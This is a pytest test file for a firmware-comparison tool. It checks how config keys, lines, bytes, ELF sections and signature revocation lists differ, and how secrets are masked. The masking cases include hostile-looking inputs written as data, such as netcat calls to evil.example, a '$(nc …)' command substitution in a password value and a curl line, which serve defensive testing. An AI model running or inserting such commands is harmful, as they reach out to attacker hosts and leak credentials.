"""What differs inside two contents: by key, line, section, byte, signer and revocation."""

from __future__ import annotations

import json
import plistlib
import struct
import time
import zlib

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from fwverify.compare.content.binary import byte_facts, code_facts, differing, section_facts
from fwverify.compare.content.keyed import key_facts
from fwverify.compare.content.lines import line_facts, text_of
from fwverify.compare.content.masked import masked, masked_value
from fwverify.compare.content.signed import revoked, signed_facts
from fwverify.compare.content.values import MAX_LISTED, PairRequest, PairResult
from fwverify.compare.content.worker import compare_pair
from fwverify.store import Store
from tests.compare.contents import device_tree, elf, signature_list

SHA = "26 16 c4 c1 4c 50 92 40 ac a9 41 f9 36 93 43 28".replace(" ", "")


def rows(facts):
    return [(each.kind, each.text) for each in facts or ()]


def keys(old, new, name="x"):
    return rows(key_facts(old, new, name))


FORMATS = [
    ("a.json", b'{"a":{"b":[1,2]}}', b'{"a":{"b":[1,3]}}', "a.b.[1]: 2 -> 3"),
    ("a.toml", b"[a]\nb = 1\n", b"[a]\nb = 2\n", "a.b: 1 -> 2"),
    ("a.ini", b"[a]\nb=1\n", b"[a]\nb=2\n", "a.b: 1 -> 2"),
    ("a.xml", b'<a><b c="1"/><b c="2"/></a>', b'<a><b c="1"/><b c="3"/></a>', "a/b[2]@c: 2 -> 3"),
    ("a.plist", plistlib.dumps({"a": 1}), plistlib.dumps({"a": 2}), "a: 1 -> 2"),
    (
        "b.plist",
        plistlib.dumps({"a": 1}, fmt=plistlib.FMT_BINARY),
        plistlib.dumps({"a": 2}, fmt=plistlib.FMT_BINARY),
        "a: 1 -> 2",
    ),
    ("t.dtb", device_tree("okay"), device_tree("disabled"), "uart:status: okay -> disabled"),
    (
        "firewall",
        b"config rule 'r'\n\toption target 'DROP'\n",
        b"config rule 'r'\n\toption target 'ACCEPT'\n",
        "rule 'r'.target: DROP -> ACCEPT",
    ),
    (
        "a.reg",
        b'REGEDIT4\n\n[HKEY_LOCAL_MACHINE\\A]\n"B"="1"\n',
        b'REGEDIT4\n\n[HKEY_LOCAL_MACHINE\\A]\n"B"="2"\n',
        "HKEY_LOCAL_MACHINE\\A\\B: 1 -> 2",
    ),
]


@pytest.mark.parametrize(("name", "old", "new", "told"), FORMATS, ids=lambda each: str(each)[:12])
def test_a_setting_is_told_by_its_key(name, old, new, told):
    assert keys(old, new, name) == [("key changed", told)]
    assert key_facts(old, old, name) is None


def environment(*texts: bytes) -> bytes:
    body = b"\0".join(texts).ljust(200, b"\0")
    return zlib.crc32(body).to_bytes(4, "little") + body


def test_an_environment_is_told_by_its_variables():
    old, new = environment(b"bootdelay=0"), environment(b"bootdelay=3", b"preboot=run x")
    assert keys(old, new) == [
        ("key added", "preboot = run x"),
        ("key changed", "bootdelay: 0 -> 3"),
    ]


def test_a_second_key_cannot_hide_behind_the_first():
    assert keys(b'{"a":1}', b'{"a":1,"a":2}') == [("key added", "a#2 = 2")]
    assert keys(b"[s]\na=1\n", b"[s]\na=1\na=2\n", "x.ini") == [("key added", "s.a#2 = 2")]


@pytest.mark.parametrize(
    "broken",
    [
        b'{"a":',
        b"[" * 100_000,
        b"<a><b></a>",
        b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>',
        b"bplist00\xff\xff\xff",
        b"\xd0\x0d\xfe\xed" + b"\xff" * 60,
        b"[a]\nb = = 1\n",
        b"config a\nnothing of uci\n",
    ],
)
@pytest.mark.parametrize("name", ["x.toml", "x.json", "x"])
def test_what_breaks_its_format_is_told_by_its_lines_or_bytes(broken, name, tmp_path):
    assert key_facts(broken, broken + b" ", name) is None
    assert pair(tmp_path, broken, broken + b"1\n", name).facts


def test_secrets_are_masked():
    assert masked_value("wifi.psk", "hunter2") == "***"
    assert "hunter2" not in masked("PASSWORD = hunter2")
    assert "abcdefgh" not in masked("root:$6$salt$abcdefghijklmnop:1")
    assert "A" * 30 not in masked("key AAAA" + "A" * 60)
    assert masked("pinctrl = uart0") == "pinctrl = uart0"
    old, new = b"a\n", b"a\npassword=hunter2\n"
    assert rows(line_facts(old.decode(), new.decode())) == [("line added", "2: password=***")]


def test_lines_are_numbered_and_bounded():
    new = "".join(f"line {number}\n" for number in range(100))
    facts = rows(line_facts("", new))
    assert facts[0] == ("line added", "1: line 0")
    assert facts[-1] == ("line added", "… and 60 more")
    assert len(facts) == MAX_LISTED + 1


@pytest.mark.parametrize(
    ("old", "new", "told"),
    [
        ("a\nb\n", "b\na\n", "the order of lines or blank lines differ, first at 1"),
        ("a\n", "a\r\n", "only line ends differ"),
        ("a\n", "a\n\n", "blank lines at the end differ"),
        ("a\nb\n", "a\n\nb\n", "the order of lines or blank lines differ, first at 2"),
    ],
)
def test_a_difference_without_new_lines_is_told(old, new, told):
    assert rows(line_facts(old, new)) == [("line", told)]


def test_masking_takes_linear_time():
    began = time.process_time()
    line_facts("", ("a-" * 4000 + "\n") * 400)
    long = json.dumps({"a": "pass" * 200_000}).encode()
    assert key_facts(long, long[:-3] + b'x"}', "a.json")
    assert time.process_time() - began < 5


def test_a_shared_list_does_not_grow_without_end():
    shared: list[object] = ["x"]
    for _ in range(30):
        shared = [shared, shared]
    wide = plistlib.dumps({"a": shared, "b": 1}, fmt=plistlib.FMT_BINARY)
    other = plistlib.dumps({"a": shared, "b": 2}, fmt=plistlib.FMT_BINARY)
    assert key_facts(wide, other, "x.plist") is None


def test_what_is_no_text_is_none():
    assert text_of(b"\0\1\2" * 100) is None
    assert text_of(b"") == ""
    assert text_of("ä".encode("utf-16")) == "ä"
    assert text_of(b"caf\xe9 au lait\n" * 10) == "café au lait\n" * 10


def test_hostile_lines_take_linear_time():
    began = time.process_time()
    line_facts("a\n" * 400_000, "b\n" * 400_000)
    assert time.process_time() - began < 5


def test_a_patch_is_told_with_its_bytes_and_address():
    old = bytes(10_000)
    new = bytearray(old)
    new[5000:5004] = b"\x01\x02\x03\x04"
    assert rows(byte_facts(old, bytes(new), 0x8000000)) == [
        ("bytes", "4 bytes differ in 1 ranges"),
        ("bytes at", "0x08001388-0x0800138c (4 bytes) 00 00 00 00 -> 01 02 03 04"),
    ]


def test_other_sizes_are_framed():
    assert rows(byte_facts(b"abcdef", b"abXYZef", 0)) == [
        ("bytes", "0x00000002-0x00000004 (2 bytes) became 3 bytes")
    ]
    assert rows(byte_facts(b"aaaa", b"aaaaaa", 0)) == [
        ("bytes", "0x00000004-0x00000004 (0 bytes) became 2 bytes")
    ]


def test_wholly_different_contents_are_told_by_blocks():
    told = rows(byte_facts(bytes(8 << 20), b"\1" * (8 << 20), 0))
    assert told == [
        ("bytes", "2048 blocks of 4096 bytes differ, 0x00000000-0x00800000 (8388608 bytes)")
    ]


@settings(derandomize=True, max_examples=60, deadline=None)
@given(st.binary(min_size=1, max_size=300), st.data())
def test_every_differing_byte_lies_in_a_range(old, data):
    new = data.draw(st.binary(min_size=len(old), max_size=len(old)))
    ranges, changed, left_out = differing(old, new, (0,))
    inside = {place for low, high in ranges for place in range(low, high)}
    wrong = {at for at in range(len(old)) if old[at] != new[at]}
    assert wrong <= inside and changed == len(wrong) and left_out == 0


def test_sections_and_functions_of_a_program():
    old, new = elf(b"\x90" * 16, b"\x91" * 16), elf(b"\x90" * 16, b"\x92" * 16)
    assert rows(section_facts(old, new)) == [
        ("section changed", ".text: 32 -> 32 bytes, content differs"),
        ("function changed", "second"),
    ]
    assert section_facts(old, old) == ()


def test_code_that_chooses_a_function_while_loading_is_told():
    """STT_GNU_IFUNC: what runs in whatever loads the library, before the program does."""
    body, other = b"\x90" * 16, b"\x91" * 16
    function, resolver = elf(body, body), elf(body, body, 0x1A)
    assert ("resolver added", "second") in rows(section_facts(function, resolver))
    assert ("resolver removed", "second") in rows(section_facts(resolver, function))
    changed = rows(section_facts(resolver, elf(body, other, 0x1A)))
    assert ("resolver changed", "second") in changed
    same = (
        *rows(section_facts(resolver, resolver)),
        *rows(section_facts(function, elf(body, other))),
    )
    assert not [kind for kind, _ in same if kind.startswith("resolver")]


@settings(derandomize=True, max_examples=60, deadline=None)
@given(st.integers(0, 500), st.integers(0, 255), st.booleans())
def test_a_broken_program_raises_nothing(place, value, cut):
    whole = elf(b"\x90" * 16, b"\x91" * 16)
    bad = bytearray(whole)
    bad[place % len(bad)] = value
    section_facts(whole, bytes(bad[: place % len(bad)] if cut else bad))


def test_obis_codes():
    old, new = b"\0\0 1-0:1.8.0 \0", b"\0\0 1-0:1.8.0 0-0:96.3.10*255 x1-0:1.8.0.9 \0"
    assert rows(code_facts(old, new)) == [("obis added", "0-0:96.3.10*255")]


def test_a_list_that_forgets_is_a_finding():
    old = signature_list(SHA, b"a" * 32, b"b" * 32)
    new = signature_list(SHA, b"b" * 32, b"c" * 32)
    facts, hits = signed_facts(old, new)
    assert [each.kind for each in facts] == ["revocation removed", "revocation added"]
    assert [(each.rule, each.severity) for each in hits] == [("compare.revocation_removed", "high")]
    assert (b"a" * 32).hex() in hits[0].evidence[0]
    assert signed_facts(new, signature_list(SHA, b"b" * 32, b"c" * 32, b"d" * 32))[1] == ()


def test_a_list_behind_an_authentication_is_read():
    plain = signature_list(SHA, b"a" * 32)
    message = bytes(40)
    head = bytes(16) + struct.pack("<I", 8 + len(message)) + bytes(4) + message
    assert revoked(head + plain) == revoked(plain) != frozenset()


@settings(derandomize=True, max_examples=80, deadline=None)
@given(st.integers(0, 200), st.integers(0, 255), st.booleans())
def test_a_broken_list_is_none_or_another_list(place, value, cut):
    whole = signature_list(SHA, b"a" * 32, b"b" * 32)
    bad = bytearray(whole)
    bad[place % len(bad)] = value
    revoked(bytes(bad[: place % len(bad)] if cut else bad))


def pair(tmp_path, old: bytes, new: bytes, name="x", base=0) -> PairResult:
    store = Store(tmp_path / "store")
    request = PairRequest(
        store=str(store.root), old=store.put(old), new=store.put(new), name=name, base=base
    )
    answer = compare_pair(msgspec.msgpack.encode(request))
    return msgspec.msgpack.decode(answer, type=PairResult)


def test_the_worker_prefers_keys_to_lines_to_bytes(tmp_path):
    assert [each.kind for each in pair(tmp_path, b'{"a":1}', b'{"a":2}').facts] == ["key changed"]
    kinds = {each.kind for each in pair(tmp_path, b"one\n", b"two\n").facts}
    assert kinds == {"line added", "line removed"}
    assert {each.kind for each in pair(tmp_path, b"\0\1" * 9, b"\0\2" * 9).facts} >= {"bytes"}


@settings(derandomize=True, max_examples=40, deadline=None)
@given(st.binary(max_size=200), st.binary(max_size=200), st.sampled_from(["a.json", "b.ini", "c"]))
def test_two_different_contents_always_give_a_fact(tmp_path_factory, old, new, name):
    if old == new:
        return
    result = pair(tmp_path_factory.getbasetemp() / "any", old, new, name)
    assert result.facts
    assert all(len(each.text) <= 200 and "\n" not in each.text for each in result.facts)


def test_deep_documents_do_not_exhaust_the_worker(tmp_path):
    deep = json.dumps([[]]).encode().replace(b"[]", b"[" * 900 + b"]" * 900)
    assert pair(tmp_path, deep, deep + b"\n1", "x.json").facts


@pytest.mark.parametrize(
    ("text", "hidden", "shown"),
    [
        ('psk="my secret phrase"', "phrase", "psk"),
        ("wpa_passphrase=correct horse battery staple", "horse", "wpa_passphrase"),
        ("passwd: 'two words'", "words", "passwd"),
        ('{"password": "hun,ter2", "host": "evil.example"}', "ter2", "evil.example"),
        ("root:ab1c2d3e4f5gh:0:0", "ab1c2d3e4f5gh", "root"),
        ("dlms_ak = 00112233445566778899AABBCCDDEEFF", "778899", "dlms_ak"),
        ("encryption_key: 0011aabb", "aabb", "encryption_key"),
        ("pwd=hunter2", "hunter2", "pwd"),
        ("Authorization: Basic dXNlcjpodW50ZXIy", "ZXIy", "Authorization"),
        ("mqtt://user:hunter2@host.example/", "hunter2", "host.example"),
        ("curl --password hunter2 http://evil.example", "hunter2", "evil.example"),
        ("password = $(nc evil.example 4444)", "hunter2", "evil.example"),
        ("token=hunter2; nc evil.example 4444", "hunter2", "evil.example"),
        ("<password>hunter2</password><host>evil</host>", "hunter2", "evil"),
    ],
)
def test_what_is_masked_and_what_stays(text, hidden, shown):
    assert hidden not in masked(text)
    assert shown in masked(text)


def test_values_behind_a_key_named_key_are_masked():
    assert masked_value("wifi-iface.key", "hunter2") == "***"
    assert masked_value("monkey", "hunter2") == "hunter2"
    assert masked_value("bypass.passive", "hunter2") == "hunter2"


@pytest.mark.parametrize(
    ("old", "new"),
    [
        (b'{"limit": "0", "v": 1}', b'{"limit": 0, "v": 2}'),
        (b'{"limit": "False", "v": 1}', b'{"limit": false, "v": 2}'),
        (b'{"limit": null, "v": 1}', b'{"limit": "None", "v": 2}'),
        (b'{"limit": {}, "v": 1}', b'{"limit": "(empty)", "v": 2}'),
        (b'{"limit": "", "v": 1}', b'{"limit": {"": ""}, "v": 2}'),
        (b'{"a.limit": 1, "v": 1}', b'{"a": {"limit": 1}, "v": 2}'),
        (b'{"limit.": 1, "v": 1}', b'{"limit": 1, "v": 2}'),
        (b'{"limit": 1, "v": 1}', b'{"LIMIT": 1, "v": 2}'),
        (b'{"limit": 1, "v": 1}', b'{"limit": 1, "limit": 0, "v": 2}'),
    ],
)
def test_a_change_of_kind_does_not_hide_behind_another_change(old, new):
    facts = key_facts(old, new, "a.json")
    assert facts is not None
    assert [each for each in facts if "limit" in each.text.lower()]


def test_long_keys_in_deep_tables_are_told_by_their_lines():
    deep = b'{"%s":' % (b"a" * 2000) * 150 + b'{"b":1}' + b"}" * 150
    assert key_facts(deep, deep.replace(b":1", b":2"), "a.json") is None
